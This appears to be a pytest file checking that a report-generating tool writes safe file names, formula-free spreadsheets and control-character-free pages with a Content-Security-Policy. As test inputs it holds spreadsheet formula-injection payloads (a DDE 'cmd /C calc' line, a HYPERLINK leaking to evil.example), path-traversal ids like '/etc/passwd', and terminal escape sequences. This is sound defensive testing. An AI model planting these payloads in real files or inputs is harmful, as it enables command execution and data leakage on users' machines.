"""Output that is safe to open (issue 13): file names from any unit id, spreadsheets that
run no formula, pages without control characters and with a Content-Security-Policy.

Validation refuses most hostile ids (tests/bad_inputs); the batch must be safe on its own,
so the names are tested on the stem functions directly and the rest with a folder that
validation accepts: ids that differ by more than case but share a file name, a 64-letter
id of two-byte letters, and formulas in indicator names, definitions and sources.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
import unicodedata
import zipfile
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from conftest import INDICATOR_HEADER, write_folder

from kitlib import batch, load_data, sample_folder
from kitlib.analysis.scorecard import scorecard
from kitlib.batch.outputs import (
    INDEX,
    MANIFEST,
    MAX_STEM_BYTES,
    RESERVED,
    UnitFiles,
    file_stem,
    note_stems,
    unique_stems,
)
from kitlib.batch.plan import UNIT_NOTE, UnitResult
from kitlib.batch.run import make_plan
from kitlib.batch.run_report import build_manifest, describe_failure, render_index
from kitlib.batch.unit_runner import UnitRunner, scorecard_csv
from kitlib.cli.main import main
from kitlib.report.formatting import replace_controls
from kitlib.report.workbook import csv_text, scorecard_workbook

FORMULAS = {  # indicator -> (column, text): issue 13's formulas, each where a spreadsheet meets it
    "sykefravaer": ("name", '=HYPERLINK("http://evil.example/?leak","klikk")'),
    "medarb_trivsel": ("name", "@SUM(1+1)"),
    "medarb_leder": ("source", "+cmd|' /C calc'!A0"),
    "forbruk_budsjett": ("definition", "-2+3"),
    "bhg_bu_helhet": ("name", "=cmd|' /C calc'!A0"),
}
RENAMED = {"bhg-lia": "Lia barnehage", "bhg-tusenfryd": "lia_barnehage", "bhg-fjordglimt": "ø" * 64}
CONTROLS = "".join(map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)]))
CSP = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"')


def _stems_are_safe(stems) -> None:
    stems = list(stems)
    assert len({s.casefold() for s in stems}) == len(stems), stems  # unique, ignoring case
    for stem in stems:
        assert len(stem.encode("utf-8")) <= MAX_STEM_BYTES, stem
        assert re.fullmatch(r"[\w.-]+", stem) and not stem.startswith("."), stem
        assert stem == unicodedata.normalize("NFC", stem)
        assert stem.casefold() not in RESERVED and stem.split(".")[0].casefold() not in RESERVED, stem


# ------------------------------------------------------------------ file names


@pytest.mark.parametrize(
    "unit_id", ["index", "INDEX", "manifest", "run", "municipality", "con", "Nul.txt", "lpt1"]
)
def test_a_reserved_id_gets_a_name_of_its_own(unit_id, tmp_path):
    stem = file_stem(unit_id)
    _stems_are_safe([stem])
    files = UnitFiles(stem)
    assert files.html != INDEX and files.html.split(".")[0].casefold() not in RESERVED
    assert stem.startswith(unit_id.split(".")[0])  # still recognisable
    assert file_stem(unit_id) == stem  # and the same on every run


@pytest.mark.parametrize("unit_id", ["x" * 300, "ø" * 200, "e\u0301" * 100])
def test_a_long_id_is_cut_with_a_hash_and_makes_files(unit_id, tmp_path):
    stem = file_stem(unit_id)
    _stems_are_safe([stem])
    assert re.search(r"-[0-9a-f]{8}$", stem)
    assert file_stem(unit_id[:-1] + "y") != stem  # ids that differ only at the end stay apart
    for name in (UnitFiles(stem).workbook, UnitFiles(stem).running_notebook):
        (tmp_path / name).write_text("x", encoding="utf-8")  # the file system takes the name


@pytest.mark.parametrize(
    "unit_id", ["../x", "..\\..\\x", "/etc/passwd", ".hidden", "a:b*c?", "x\x00y\x1b[31m"]
)
def test_a_path_like_id_stays_in_the_output_folder(unit_id, tmp_path):
    stem = file_stem(unit_id)
    _stems_are_safe([stem])
    assert (tmp_path / UnitFiles(stem).html).resolve().parent == tmp_path.resolve()


def test_ids_that_share_a_name_ignoring_case_get_a_hash_each_not_an_error():
    ids = ["bygg-vest", "BYGG-VEST", "Lia barnehage", "lia_barnehage", "\u00e9cole", "e\u0301cole", "ok"]
    stems = unique_stems({u: file_stem(u) for u in ids})
    _stems_are_safe(stems.values())
    assert stems["ok"] == "ok"  # an id without a clash keeps its plain name
    assert stems["bygg-vest"].startswith("bygg-vest-") and stems["BYGG-VEST"].startswith("BYGG-VEST-")
    # which ids a run names does not matter: each clashing id gets the hash of itself
    assert unique_stems({u: file_stem(u) for u in reversed(ids)}) == stems


def test_no_unit_takes_the_name_of_an_area_note_or_pack():
    units, areas = note_stems(["area-skole", "samlet-skole", "skole"], ["Skole", "skole", "Helse"])
    _stems_are_safe([*units.values(), *areas.values()])
    assert areas["Helse"] == "area-helse" and units["skole"] == "skole"
    from kitlib.batch.outputs import pack_stem

    packs = {pack_stem(stem).casefold() for stem in areas.values()}
    assert not packs & {stem.casefold() for stem in units.values()}
    units, areas = note_stems(["samlet-skole"], ["Skole", "Helse"])
    assert units["samlet-skole"] != "samlet-skole"  # the pack's samlet-skole.pdf


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory) -> Path:
    """The sample, with ids validation accepts but which clash as file names or are long in
    bytes, and issue 13's formulas in indicator names, a source and a definition."""
    folder = Path(shutil.copytree(sample_folder(), tmp_path_factory.mktemp("hostile") / "data"))
    for path in folder.glob("*.csv"):
        _rewrite(path, lambda row: {k: RENAMED.get(v, v) for k, v in row.items()})

    def formulas(row: dict) -> dict:
        column, text = FORMULAS.get(row["indicator_id"], (None, None))
        return {**row, column: text} if column else row

    _rewrite(folder / "indicators.csv", formulas)
    return folder


def _rewrite(path: Path, change) -> None:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
        header = list(rows[0]) if rows else []
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, header, lineterminator="\n")
        writer.writeheader()
        writer.writerows(change(row) for row in rows)


def test_the_plan_names_every_note_safely_and_as_the_full_run_does(hostile_folder):
    full = make_plan(hostile_folder, warm_kernel=False)
    stems = {job.unit_id: job.stem for job in full.units if job.level == UNIT_NOTE}
    _stems_are_safe(stems.values())
    every = [job.stem for job in full.units]  # with the municipality's and the areas' notes
    assert len({s.casefold() for s in every}) == len(every) > len(stems)
    assert stems["Lia barnehage"] != "Lia_barnehage" and stems["lia_barnehage"] != "lia_barnehage"
    assert len(stems["ø" * 64].encode("utf-8")) <= MAX_STEM_BYTES < len(("ø" * 64).encode("utf-8"))
    few = make_plan(hostile_folder, units=["Lia barnehage"], warm_kernel=False)
    assert [job.stem for job in few.units] == [stems["Lia barnehage"]]  # not its name in a run of one


# ------------------------------------------------------------------ spreadsheets


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(cells: list[list[str]]) -> None:
    for row in cells:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a plain number may begin so


def test_csv_text_quotes_formulas_and_keeps_numbers():
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "-2+3", "@SUM(A1)", "+cmd", "\t=1", "-2.5", "ok", None],
            "value": [-2.5, 1.0, None, -3.0, 0.0, 2.0, 3.0, 4.0],
            "=bad header": list(range(8)),
        }
    )
    cells = _cells(csv_text(frame))
    _assert_no_formula(cells)
    assert cells[0] == ["name", "value", "'=bad header"]
    assert [row[0] for row in cells[1:]] == [
        "'=1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'+cmd",
        "'\t=1",
        "-2.5",
        "ok",
        "",
    ]
    assert [row[1] for row in cells[1:]] == ["-2.5", "1.0", "", "-3.0", "0.0", "2.0", "3.0", "4.0"]


def test_scorecard_csv_and_workbook_run_no_formula(hostile_folder):
    from openpyxl import load_workbook

    data = load_data(hostile_folder)
    card = scorecard(data, "Lia barnehage", data.latest_year)
    text = scorecard_csv(card)
    cells = _cells(text)
    _assert_no_formula(cells)
    shown = {cell for row in cells for cell in row}
    for _column, formula in FORMULAS.values():
        if formula in set(card["name"]) | set(card["source"]) | set(card["definition"]):
            assert "'" + formula in shown
    assert any(re.fullmatch(r"-\d+(\.\d+)?", cell) for cell in shown)  # negative numbers stay numbers

    names = {p: p for p in card["perspective"].unique()}
    book = scorecard_workbook(card, names, "nb")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(book)).active
    values = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert FORMULAS["sykefravaer"][1] in {c.value for c in values}  # shown as written, as text


def test_audit_files_run_no_formula(tmp_path):
    folder = write_folder(
        tmp_path / "data",
        indicators=f"""
            {INDICATOR_HEADER}
            sykefravaer,"=HYPERLINK(""http://evil.example"",""x"")",*,medarbeidere,+cmd,medarbeider,%,lower,delvis,-2+3
            forbruk,@SUM(1+1),*,okonomi,Regnskap,okonomi,%,lower,ja,Regnskap i prosent av budsjett
        """,
        units="""
            unit_id,name,service_area
            alna,=cmd|' /C calc'!A0,Bydel
        """,
        values="""
            unit_id,indicator_id,period,value,status
            alna,sykefravaer,2023,11.6,
            alna,sykefravaer,2024,10.35,
            alna,sykefravaer,2025,10.06,
            alna,forbruk,2023,97.24,
            alna,forbruk,2024,95.93,
            alna,forbruk,2025,97,
        """,
        targets="""
            unit_id,indicator_id,period,target
            *,sykefravaer,2025,9.9
            *,forbruk,2025,100
            alna,sykefravaer,2026,9.5
        """,
    )
    from openpyxl import load_workbook

    out = tmp_path / "audit"
    assert main(["audit", "--data", str(folder), "--out", str(out)]) == 0
    for name in ("audit.csv", "targets_check.csv"):
        cells = _cells((out / name).read_text(encoding="utf-8"))
        _assert_no_formula(cells)
        assert any(cell.startswith("'=HYPERLINK") for row in cells for cell in row), name
    book = load_workbook(out / "audit.xlsx")
    formulas = [
        c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"
    ]
    assert not formulas
    with zipfile.ZipFile(out / "audit.xlsx") as archive:
        assert not [
            n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)
        ]


def test_a_workbook_takes_any_text_as_text(hostile_folder):
    from openpyxl import load_workbook

    data = load_data(hostile_folder)
    card = scorecard(data, "Lia barnehage", data.latest_year)
    card.loc[card.index[0], "name"] = "=1+1\x00 Lia\x1b[31m barnehage\x0c"  # XML cannot hold NUL, ESC, FF
    sheet = load_workbook(io.BytesIO(scorecard_workbook(card, {}, "nb"))).active
    assert sheet["B2"].value == "=1+1\ufffd Lia\ufffd[31m barnehage\ufffd" and sheet["B2"].data_type == "s"


def test_the_manifest_records_each_notes_stem(hostile_folder):
    plan = make_plan(hostile_folder, units=["Lia barnehage", "ø" * 64], warm_kernel=False)
    manifest = json.loads(build_manifest(plan, [UnitResult(job.unit_id) for job in plan.units]))
    for job in plan.units:
        entry = manifest["units"][job.unit_id]
        assert entry["stem"] == job.stem  # its files: <stem>.html, <stem>.scorecard.csv, ...


# ------------------------------------------------------------------ pages


def test_replace_controls_keeps_text_and_line_breaks():
    assert replace_controls("Lia\tbarnehage\nÆØÅ «x» – 5 %\r\n") == "Lia\tbarnehage\nÆØÅ «x» – 5 %\r\n"
    assert replace_controls(CONTROLS) == "\ufffd" * len(CONTROLS)
    assert replace_controls("a\ud800b") == "a\ufffdb"  # a lone surrogate cannot be written as UTF-8


@pytest.fixture(scope="module")
def plan():
    return make_plan(sample_folder(), units=["bhg-lia"], warm_kernel=False, lang="nb")


def _controls_in(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in text if c in CONTROLS})


def test_no_control_character_reaches_a_note(plan):
    nb = nbformat.v4.new_notebook()
    hostile = "Lia\x00 barne\x1b[31mhage\x07\x85\x7f"
    cell = nbformat.v4.new_code_cell("", execution_count=1)
    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": f"<p>{hostile}</p>"})]
    nb.cells = [nbformat.v4.new_markdown_cell(f"## {hostile}"), cell]
    job = dataclasses.replace(plan.units[0], name=hostile)
    runner = UnitRunner(plan)
    try:
        page = runner.render(nb, job)
    finally:
        runner.close()
    assert not _controls_in(page)
    assert "Lia\ufffd barne\ufffd[31mhage" in page
    page.encode("utf-8")


def test_no_control_character_reaches_the_index_or_the_terminal(plan):
    hostile = "Lia\x00 barne\x1b[2Jhage\x9b"
    job = dataclasses.replace(plan.units[0], name=hostile)
    shown = dataclasses.replace(plan, units=(job,), municipality=f"Fjord\x00vik {hostile}")
    failed = UnitResult(job.unit_id, status="failed", error=f"ValueError: {hostile}")
    page = render_index(shown, [failed])
    assert not _controls_in(page)
    assert "Lia\ufffd barne\ufffd[2Jhage\ufffd" in page
    assert not _controls_in(describe_failure(failed))


def test_every_page_carries_the_content_security_policy(plan):
    page = render_index(plan, [UnitResult(plan.units[0].unit_id)])
    policy = CSP.search(page)
    assert policy, "the index has no Content-Security-Policy"
    directives = dict(d.strip().split(" ", 1) for d in policy.group(1).split(";"))
    assert directives == {
        "default-src": "'none'", "img-src": "data:", "style-src": "'unsafe-inline'",
        "base-uri": "'none'", "form-action": "'none'",
    }  # fmt: skip
    assert page.index("Content-Security-Policy") < page.index("<style")  # before what it covers
    runner = UnitRunner(plan)
    try:
        note = runner.render(nbformat.v4.new_notebook(), plan.units[0])
    finally:
        runner.close()
    assert CSP.search(note).group(1) == (
        policy.group(1)
    )  # the same policy: one template (csp.html.j2) for both


# ------------------------------------------------------------------ the whole batch


@pytest.mark.slow
def test_a_batch_of_clashing_long_and_formula_names_is_safe(hostile_folder, tmp_path):
    """One unit whose id clashes with another's as a file name (not in this run): its files,
    the manifest's stem, the index's links and its CSV agree, and nothing is overwritten."""
    out = tmp_path / "out"
    unit = "Lia barnehage"
    result = batch.make_briefings(hostile_folder, out=out, units=[unit], jobs=1, level=UNIT_NOTE)
    assert result.exit_code == 0, [r.error for r in result.failed]
    stem = result.plan.units[0].stem
    _stems_are_safe([stem])
    manifest = json.loads((out / MANIFEST).read_text(encoding="utf-8"))
    entry = manifest["units"][unit]
    assert (
        entry["stem"] == stem
        and entry["html"] == f"{stem}.html"
        and entry["scorecard"] == f"{stem}.scorecard.csv"
    )
    names = {p.name for p in out.iterdir()}
    assert {f"{stem}.html", f"{stem}.scorecard.csv", f"{stem}.scorecard.xlsx", INDEX, MANIFEST} <= names
    index = (out / INDEX).read_text(encoding="utf-8")
    assert 'class="kit-index"' in index and f'href="{stem}.html"' in index and CSP.search(index)
    _assert_no_formula(_cells((out / f"{stem}.scorecard.csv").read_text(encoding="utf-8")))


def test_two_service_areas_differing_only_by_case_get_two_packs():
    from kitlib.batch.outputs import pack_stem

    _units, areas = note_stems([], ["Skole", "skole"])
    packs = {pack_stem(stem) for stem in areas.values()}
    assert len(packs) == 2 and len({p.casefold() for p in packs}) == 2
    assert all(p.startswith("samlet-skole") for p in packs)
